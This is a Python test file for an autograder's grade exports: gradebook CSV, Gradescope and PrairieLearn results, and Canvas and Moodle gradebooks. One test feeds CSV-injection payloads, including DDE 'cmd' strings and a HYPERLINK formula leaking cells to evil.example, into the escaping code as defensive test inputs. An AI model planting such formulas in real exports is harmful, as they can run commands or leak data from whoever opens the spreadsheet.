"""Gradebook CSV (spreadsheet-safe), Gradescope and PrairieLearn results.json (validated against
their published schemas), feedback files and the summary, from reports shaped like the grader's."""

from __future__ import annotations

import csv
from pathlib import Path

from rich.console import Console

from exercises import load_catalog
from grader.report import CheckResult, ModelSummary, Report
from tutor.autograder import results
from tutor.batch import cells, exports, summary
from tutor.batch.feedback import feedback_text
from tutor.batch.models import StoredResult, Submission, Unattributed
from tutor.batch.schemas import PRAIRIELEARN_MAX_BYTES, GradescopeResults, PrairieLearnResults

TASK = load_catalog().get("task8.1")


def _report(status: str, accuracy=None, failed=(), error=None) -> Report:
    checks = [
        CheckResult(id=c.id, kind=c.kind, status="failed" if c.id in failed else "passed",
                    message=f"{c.id} message", expected=[10] if c.id == "output-shape" else None,
                    actual=[10] if c.id == "output-shape" else None,
                    points=0.0 if c.id in failed else c.points, max_points=c.points)
        for c in TASK.spec.checks
    ] if error is None else []
    points = sum(c.points for c in checks)
    top = sum(c.max_points for c in checks)
    model = ModelSummary(total_params=100, trainable_params=90, non_trainable_params=10,
                         input_shape=[None, 28, 28, 1], output_shape=[None, 10], layers=[])
    return Report(task="task8.1", status=status, score=points / top if top else 0.0, points=points,
                  max_points=top, checks=checks, model=model if error is None else None,
                  accuracy=accuracy, duration_s=1.5, error=error)


def _stored(student: str, report: Report) -> StoredResult:
    return StoredResult(student=student, task="task8.1", content_hash="ab" * 32, spec_hash="cd" * 32,
                        origin=f"/in/{student}", report=report, graded_at="2026-01-01T00:00:00+00:00",
                        wall_s=2.0)


RESULTS = [
    _stored("alice", _report("passed", accuracy=0.9871)),
    _stored("bob", _report("failed", accuracy=0.95, failed=("accuracy", "changed"))),
    _stored("carol", _report("error", error="model.py: SyntaxError on line 3: fix it and rerun")),
]


def test_gradebook_has_one_row_per_student_with_the_promised_columns(tmp_path):
    exports.write_gradebook(tmp_path / "gradebook.csv", RESULTS)
    rows = list(csv.DictReader((tmp_path / "gradebook.csv").open()))
    for column in ("student", "task", "status", "score", "points", "max_points", "accuracy",
                   "total_params", "trainable_params", "failed_checks", "duration_s", "graded_at"):
        assert column in rows[0]
    assert [r["student"] for r in rows] == ["alice", "bob", "carol"]
    assert rows[0]["accuracy"] == "0.9871" and rows[0]["total_params"] == "100"
    assert rows[1]["failed_checks"] == "changed;accuracy" and rows[1]["points"] == "5"
    assert rows[2]["status"] == "error" and "SyntaxError" in rows[2]["reason"]


def test_gradescope_and_prairielearn_results_follow_their_schemas():
    """Gradescope "Autograder Specifications" (gradescope-autograders.readthedocs.io/en/latest/specs/)
    and PrairieLearn docs/externalGrading.md ("Grading results"), as modelled in schemas.py."""
    for result in RESULTS:
        report = result.report
        feedback = feedback_text(report, TASK.spec, result.student)
        gs = GradescopeResults.model_validate_json(
            results.gradescope(report, TASK.spec, feedback).model_dump_json(exclude_none=True))
        assert gs.score == report.points
        assert sum(t.max_score for t in gs.tests) == sum(c.max_points for c in report.checks)
        pl_text = results.prairielearn(report, TASK.spec, feedback).model_dump_json(exclude_none=True)
        assert len(pl_text.encode()) < PRAIRIELEARN_MAX_BYTES
        pl = PrairieLearnResults.model_validate_json(pl_text)
        if report.status == "error":
            assert pl.gradable is False and "SyntaxError" in pl.format_errors[0]
        else:
            assert pl.score == report.score
            assert [t.points for t in pl.tests] == [c.points for c in report.checks]
    bob = results.gradescope(RESULTS[1].report, TASK.spec, "x")
    statuses = {t.name: t.status for t in bob.tests}
    assert statuses["test accuracy at least 0.975 after the 5-epoch recipe"] == "failed"
    huge = results.prairielearn(RESULTS[0].report, TASK.spec, "y" * (3 << 20))
    assert len(huge.model_dump_json().encode()) < PRAIRIELEARN_MAX_BYTES  # "limited to 1 MB"


def test_schema_models_refuse_what_the_platforms_would_not_read():
    import pytest
    from pydantic import ValidationError

    with pytest.raises(ValidationError):
        GradescopeResults.model_validate({"tests": [{"name": "x"}]})  # no score anywhere
    with pytest.raises(ValidationError):
        GradescopeResults.model_validate({"score": 1, "grade": 2})  # unknown key
    with pytest.raises(ValidationError):
        PrairieLearnResults.model_validate({"score": 1.5})
    with pytest.raises(ValidationError):
        PrairieLearnResults.model_validate({"gradable": True})


def test_summary_counts_rates_histogram_and_common_failures(tmp_path):
    s = summary.summarise(TASK.spec, RESULTS, [Unattributed(path="x.py", reason="no student id")])
    assert (s.total, s.passed, s.failed, s.errors) == (3, 1, 1, 1)
    assert round(s.pass_rate, 3) == 0.333
    assert sum(s.histogram) == 3 and s.histogram[-1] == 1 and s.histogram[0] == 1
    assert {cid for cid, _, _ in s.failed_checks} == {"accuracy", "changed"}
    console = Console(record=True, width=100)
    summary.render(console, s, tmp_path)
    text = console.export_text()
    assert "pass rate 33%" in text and "x.py: no student id" in text and "slowest" in text


def test_files_of_students_no_longer_in_the_batch_are_removed(tmp_path):
    for result in RESULTS:
        exports.write_student_files(tmp_path, result, TASK.spec)
    (tmp_path / "feedback" / "README.md").write_text("the instructor's own notes")
    legacy = tmp_path / "gradescope" / "alice" / "results.json"  # an older version's folders
    legacy.parent.mkdir(parents=True)
    legacy.write_text("{}")
    assert exports.remove_stale(tmp_path, {"alice", "bob"}) == ["carol"]
    assert not (tmp_path / "feedback" / "carol.txt").exists()
    assert (tmp_path / "feedback" / "bob.txt").exists()
    assert not (tmp_path / "gradescope").exists(), "per-student results.json no platform reads"
    assert (tmp_path / "feedback" / "README.md").exists()


def test_no_cell_we_write_runs_as_a_formula(tmp_path):
    """OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection), ASVS 1.2.10:
    a leading =, +, -, @, tab or CR gets a single quote; numbers stay numbers."""
    for hostile in ("=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "  =1+1"):
        assert cells.safe_cell(hostile) == "'" + hostile
    for harmless in ("0.9871", "-3", "+1.5", "1e-3", "-", "alice", "", "Participant 12"):
        assert cells.safe_cell(harmless) == harmless
    # One to one, so a file read back (marks.csv) gives each cell back and two texts never
    # share a cell: a text already quoted before a formula gets one more quote.
    texts = ("=1+1", "'=1+1", "''=1+1", "'", "'alice", "-3", "'-3", "@x", " =1")
    assert len({cells.safe_cell(t) for t in texts}) == len(texts)
    assert all(cells.plain_cell(cells.safe_cell(t)) == t for t in texts)
    forged = _stored("-mallory", _report("error", error='=HYPERLINK("http://evil.example/?"&A2&B2,"x")'))
    forged = forged.model_copy(update={"name": "@SUM(1+1)"})
    exports.write_gradebook(tmp_path / "gradebook.csv", [*RESULTS, forged])
    row = list(csv.DictReader((tmp_path / "gradebook.csv").open()))[-1]
    assert row["reason"].startswith("'=HYPERLINK") and row["student"] == "'-mallory"
    assert row["name"] == "'@SUM(1+1)" and row["score"] == "0.0000"
    exports.write_unattributed(tmp_path / "unattributed.txt",
                               [Unattributed(path="=cmd|' /C calc'!A0", reason="@evil")])
    assert (tmp_path / "unattributed.txt").read_text().startswith("'=cmd")
    assert "\t'@evil" in (tmp_path / "unattributed.txt").read_text()


def _sub(student: str, lms: str, attachments=()) -> Submission:
    return Submission(student=student, name=f"n{student}", path=Path("/nowhere"), origin="x", lms=lms,
                      attachments=list(attachments))


def test_canvas_export_quirks_are_respected(tmp_path):
    """canvas-lms lib/gradebook_exporter.rb: optional BOM and `;` separator (CSVWithI18n),
    a "Manual Posting" row before `    Points Possible`, `EX` and `N/A` cells, numbers with the
    user's decimal mark; app/models/assignment.rb: comment file names carry user and attachment id."""
    from tutor.batch import canvas, lmsbook

    export = tmp_path / "export.csv"
    export.write_bytes("\ufeffStudent;ID;SIS Login ID;Section;Task 8.1 (9);Current Score\n"
                       ";;;;Manual Posting;\n"
                       "    Points Possible;;;;50,00;(read only)\n"
                       "Alice;11;a;S;;80,00\nBob;12;b;S;EX;\nCarol;13;c;S;N/A;\nDan;14;d;S;3,00;\n"
                       "Erin;15;e;S;;\n".encode())
    subs = [_sub("11", "canvas", [700, 701]), _sub("12", "canvas", [702]), _sub("13", "canvas", [703]),
            _sub("14", "canvas", [704]), _sub("99", "canvas", [799]), _sub("bob", "")]
    results = [_stored(s.student, RESULTS[0].report) for s in subs]
    match = canvas.write(export, tmp_path, TASK.spec, subs, results, graded={"11", "12", "13", "99", "bob"})
    text = (tmp_path / "canvas-gradebook.csv").read_bytes().decode()
    assert text.startswith("\ufeff") and text.splitlines()[0] == "\ufeffStudent;ID;SIS Login ID;Section;Task 8.1 (9)"
    rows = {r[1]: r for r in lmsbook.read_table(tmp_path / "canvas-gradebook.csv", "x").rows[1:]}
    assert rows[""][-1] in ("Manual Posting", "50,00") and "Manual Posting" in text
    expected = lmsbook.grade_out_of(RESULTS[0], 50).replace(".", ",")
    assert rows["11"][-1] == expected  # scaled to 50 points possible, decimal comma as exported
    assert rows["12"][-1] == "EX" and rows["13"][-1] == "N/A"  # not overwritten
    assert rows["14"][-1] == "3,00" and rows["15"][-1] == ""  # 14 not graded yet, 15 no submission
    assert match.filled == ["11"] and match.not_graded == ["14"] and match.no_submission == ["15"]
    assert match.no_student == ["99"] and match.not_lms == ["bob"] and len(match.skipped) == 2
    import zipfile

    with zipfile.ZipFile(tmp_path / "canvas-comments.zip") as archive:
        assert archive.namelist() == ["n11_11_701_feedback.txt"]


def test_moodle_worksheet_quirks_are_respected(tmp_path):
    """moodle mod/assign/feedback/offline/importgradeslib.php (Identifier, Grade, Last modified
    (grade) required) and locallib.php (grades above the maximum are skipped; locked grades)."""
    import pytest

    from tutor.batch import lmsbook, moodle
    from tutor.errors import UserError

    sheet = tmp_path / "sheet.csv"
    sheet.write_text("Identifier,Full name,Grade,Maximum grade,Grade can be changed,Last modified (grade)\n"
                     "Participant 31,A,,20.00,Yes,-\nParticipant 32,B,4.00,20.00,No,\"Monday, 1 December 2025\"\n"
                     "Participant 33,C,,20.00,Yes,-\n")
    subs = [_sub("31", "moodle"), _sub("32", "moodle"), _sub("34", "moodle")]
    results = [_stored(s.student, RESULTS[1].report) for s in subs]
    match = moodle.write(sheet, tmp_path, TASK.spec, subs, results, graded={"31", "32", "34"})
    rows = {r[0]: r for r in lmsbook.read_table(tmp_path / "moodle-worksheet.csv", "x").rows[1:]}
    assert rows["Participant 31"][2] == lmsbook.grade_out_of(RESULTS[1], 20)
    assert float(rows["Participant 31"][2]) <= 20
    assert rows["Participant 32"][2] == "4.00" and rows["Participant 32"][5] == "Monday, 1 December 2025"
    assert match.filled == ["31"] and match.no_submission == ["33"] and match.no_student == ["34"]
    assert "locked" in match.skipped[0] and any("Comments" in n or "comments" in n for n in match.notes)
    sheet.write_text("Identifier,Grade,Maximum grade\n")
    with pytest.raises(UserError, match="Last modified"):
        moodle.write(sheet, tmp_path, TASK.spec, subs, results, graded=set())


def test_the_lms_grade_is_the_gradebook_final_score_and_the_comment_its_feedback_file(tmp_path):
    """Manual marks and late penalties (tutor.batch.marks: final_score) reach Canvas too, and the
    comment is the feedback file a student gets (instructor paths scrubbed there)."""
    from pathlib import Path

    from tutor.batch import lmsbook, run
    from tutor.batch.models import BatchManifest

    export = tmp_path / "export.csv"
    export.write_text("Student,ID,Task 8.1 (9)\n    Points Possible,,10\nAlice,11,\n")
    (tmp_path / "feedback").mkdir()
    (tmp_path / "feedback" / "11.txt").write_text("Feedback for 11\nyour submission: fine\n")
    manifest = BatchManifest(task="task8.1", spec_hash="x", out=tmp_path, submissions=[_sub("11", "canvas", [5])])
    options = run.Options(source=tmp_path, task_id="task8.1", out=tmp_path, canvas_gradebook=export)
    result = _stored("11", RESULTS[0].report)
    [match] = run.write_lms_files(TASK, manifest, [result], {"11"}, options, {"11": {"final_score": "0.5000"}})
    rows = lmsbook.read_table(tmp_path / "canvas-gradebook.csv", "x").rows
    assert rows[2] == ["Alice", "11", "5"] and match.filled == ["11"]
    import zipfile

    with zipfile.ZipFile(tmp_path / "canvas-comments.zip") as archive:
        assert archive.read("n11_11_5_feedback.txt").decode() == "Feedback for 11\nyour submission: fine\n"
    assert Path(match.written).name == "canvas-gradebook.csv"
